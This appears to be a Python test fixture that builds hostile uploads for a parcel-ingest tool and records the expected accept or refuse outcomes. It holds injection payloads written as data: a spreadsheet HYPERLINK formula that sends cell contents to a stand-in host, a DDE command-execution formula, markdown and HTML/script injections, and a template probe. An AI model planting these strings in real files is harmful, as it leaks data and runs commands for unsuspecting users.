"""Hostile uploads (issue 14): injection-shaped IDs and names, NaN coordinates, odd
member names, '!' in names, a spiky polygon. Each builder writes a real file in
a temporary folder (GDAL where it can, raw GeoJSON text or zip bytes where a
writer would refuse the defect) and names the outcome landinv must reach.

Outcomes follow :mod:`ingest_corpus`: ``accepted``, ``refused:<codes>``,
``choose:<key>``.
"""

from __future__ import annotations

import json
import math
import zipfile
from pathlib import Path

import geopandas as gpd
import numpy as np
import pyogrio
import shapely

from tests.support.ingest_corpus import SIDE, Case, new_parcels, square, write_shapefile, zip_files

#: IDs and names an attacker would try (markdown, HTML, template, spreadsheet formula).
HOSTILE_TEXTS = [
    "![t](http://h/x.png)",
    "x](http://h/phish) click [here",
    '=HYPERLINK("http://h/?"&A1,"ok")',
    "=cmd|' /C calc'!A0",
    "<b>{{7*7}}</b>&lt;i&gt;",
    "$\\frac{1}{0}$ @SUM(1)",
]


def star_polygon(
    n: int = 160_000,
    x: float = 118.515,
    y: float = 28.915,
    outer: float = 0.004,
    inner: float = 0.001,
) -> shapely.Polygon:
    """A star with ``n`` vertices alternating between two radii (degrees)."""
    t = np.linspace(0.0, 2 * math.pi, n, endpoint=False)
    r = np.where(np.arange(n) % 2 == 0, outer, inner)
    return shapely.Polygon(np.column_stack([x + r * np.cos(t), y + r * 0.9 * np.sin(t)]))


def _frame(ids, geoms, names=None) -> gpd.GeoDataFrame:
    n = len(ids)
    return gpd.GeoDataFrame(
        {
            "DKBH": list(ids),
            "DKMC": list(names or [f"地块{i}" for i in range(n)]),
            "PQ": ["新都片区"] * n,
            "LX": ["工业熟地"] * n,
        },
        geometry=list(geoms),
        crs=4490,
    )


def _geojson_text(rows) -> str:
    """GeoJSON text written by hand: GDAL's writers refuse NaN, browsers' JSON does not."""
    feats = [
        {
            "type": "Feature",
            "properties": {"DKBH": fid, "PQ": "新都片区", "LX": "工业熟地"},
            "geometry": {"type": "Polygon", "coordinates": [ring]},
        }
        for fid, ring in rows
    ]
    return json.dumps({"type": "FeatureCollection", "features": feats}, ensure_ascii=False)


def _ring(x, y, side=SIDE):
    return [[x, y], [x + side, y], [x + side, y + side], [x, y + side], [x, y]]


def _hostile_ids(folder: Path) -> Path:
    n = len(HOSTILE_TEXTS)
    gdf = _frame(
        HOSTILE_TEXTS,
        [square(118.510 + 2 * SIDE * i, 28.920) for i in range(n)],
        names=list(reversed(HOSTILE_TEXTS)),
    )
    path = folder / "hostile.gpkg"
    pyogrio.write_dataframe(gdf, path, layer="parcels")
    return path


def _nan_coordinates(folder: Path) -> Path:
    ring_nan = _ring(118.512, 28.921)
    ring_nan[2] = [float("nan"), 28.922]
    ring_inf = _ring(118.514, 28.921)
    ring_inf[1] = [float("inf"), float("-inf")]
    path = folder / "nan.geojson"
    path.write_text(
        _geojson_text(
            [("NAN-1", _ring(118.510, 28.921)), ("NAN-2", ring_nan), ("NAN-3", ring_inf)]
        ),
        encoding="utf-8",
    )
    return path


def _one_parcel_geojson(fid: str = "Z-1", x: float = 118.511, y: float = 28.923) -> str:
    return _geojson_text([(fid, _ring(x, y))])


def _long_member_name(folder: Path) -> Path:
    return zip_files(folder / "long.zip", {"d" * 300 + "/parcels.geojson": _one_parcel_geojson()})


def _file_and_folder(folder: Path) -> Path:
    return zip_files(
        folder / "clash.zip",
        {
            "x.geojson": _one_parcel_geojson("C-1"),
            "x.geojson/y.geojson": _one_parcel_geojson("C-2", 118.513),
        },
    )


def _file_and_folder_chosen(folder: Path) -> Path:
    return _file_and_folder(folder)


def _bang_name(folder: Path) -> Path:
    path = folder / "a!b.geojson"
    path.write_text(_one_parcel_geojson("B-1"), encoding="utf-8")
    return path


def _bang_chinese_name(folder: Path) -> Path:
    path = folder / "地块（新）!.geojson"
    path.write_text(_one_parcel_geojson("B-2"), encoding="utf-8")
    return path


def _bang_zip_folder(folder: Path) -> Path:
    shp = write_shapefile(new_parcels(2, y0=28.925, prefix="PX-"), folder / "src", "地块")
    files = {f"p!x/{p.name}": p for p in shp.parent.iterdir()}
    return zip_files(folder / "p!x.zip", files)


def _markdown_member_names(folder: Path) -> Path:
    return zip_files(
        folder / "names.zip",
        {
            "![t](http://h/x.png)/=HYPERLINK(1).geojson": _one_parcel_geojson("M-1"),
            "<script>alert(1)<\\script>.txt": b"not data",
        },
    )


def _duplicate_members(folder: Path) -> Path:
    target = folder / "dup.zip"
    with zipfile.ZipFile(target, "w") as zf:
        zf.writestr("parcels.geojson", _one_parcel_geojson("D-1"))
        with __import__("warnings").catch_warnings():
            __import__("warnings").simplefilter("ignore")  # zipfile warns: "Duplicate name"
            zf.writestr("PARCELS.GEOJSON", _one_parcel_geojson("D-2", 118.513))
    return target


def _spiky_star(folder: Path) -> Path:
    shp = write_shapefile(_frame(["STAR-1"], [star_polygon()]), folder / "src", "star")
    return zip_files(folder / "star.zip", {p.name: p for p in shp.parent.iterdir()})


def _too_many_vertices_in_upload(folder: Path) -> Path:
    polys = [star_polygon(2_000, 118.510 + 0.01 * i, 28.930, 0.003, 0.002) for i in range(3)]
    path = folder / "many.geojson"
    pyogrio.write_dataframe(_frame(["V-1", "V-2", "V-3"], polys), path, driver="GeoJSON")
    return path


HOSTILE_CASES = [
    Case("hostile_ids_and_names", _hostile_ids, "accepted", accepted=len(HOSTILE_TEXTS)),
    Case(
        "nan_and_infinity_coordinates",
        _nan_coordinates,
        "refused:nonfinite_coordinates",
        accepted=1,
    ),
    Case("zip_300_char_folder", _long_member_name, "accepted"),
    Case("zip_file_and_folder_same_name", _file_and_folder, "choose:layer"),
    Case(
        "zip_file_and_folder_chosen",
        _file_and_folder_chosen,
        "accepted",
        options={"layer": "x.geojson/y.geojson"},
    ),
    Case("bang_in_file_name", _bang_name, "accepted"),
    Case("bang_in_chinese_file_name", _bang_chinese_name, "accepted"),
    Case("bang_in_zip_folder", _bang_zip_folder, "accepted", accepted=2),
    Case("markup_in_member_names", _markdown_member_names, "accepted"),
    Case("zip_duplicate_member", _duplicate_members, "refused:unreadable_upload"),
    Case("spiky_star_160k_vertices", _spiky_star, "refused:too_many_vertices", accepted=0),
    Case(
        "too_many_vertices_in_upload",
        _too_many_vertices_in_upload,
        "refused:too_many_vertices_upload",
        options={"limits": {"max_vertices_per_upload": 5_000}},
    ),
]
